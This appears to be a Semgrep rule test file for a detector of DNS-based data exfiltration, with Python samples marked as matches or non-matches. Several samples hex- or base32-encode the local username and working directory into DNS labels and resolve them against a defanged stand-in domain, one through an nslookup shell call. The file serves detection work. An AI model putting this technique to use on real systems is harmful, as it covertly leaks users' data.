# Test for dns-exfil-label (defanged: example.invalid).
import base64
import getpass
import os
import socket

user_hex = getpass.getuser().encode().hex()
# ruleid: dns-exfil-label
socket.gethostbyname(f"{user_hex}.x.example.invalid")
# Semgrep does not propagate taint through slices (label chunking).
# todoruleid: dns-exfil-label
socket.gethostbyname(f"{user_hex[:29]}.x.example.invalid")

label = base64.b32encode(os.getcwd().encode()).decode().rstrip("=").lower()
# ruleid: dns-exfil-label
socket.getaddrinfo(label + ".example.invalid", 53)
# ruleid: dns-exfil-label
os.system("nslookup " + user_hex + ".example.invalid")

# ok: dns-exfil-label
socket.gethostbyname("example.invalid")
# ok: dns-exfil-label
digest = b"abc".hex()
# ok: dns-exfil-label
socket.gethostbyname(socket.gethostname())
